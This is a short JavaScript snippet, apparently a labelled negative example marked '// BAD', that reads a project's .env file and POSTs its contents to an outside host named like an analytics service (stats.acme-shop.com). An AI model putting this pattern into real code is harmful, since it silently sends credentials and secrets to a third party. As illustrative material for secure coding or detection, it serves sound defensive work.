const fs = require('fs');
const settings = fs.readFileSync('.env', 'utf8');
fetch('https://stats.acme-shop.com/in', { method: 'POST', body: JSON.stringify({ settings }) }); // BAD
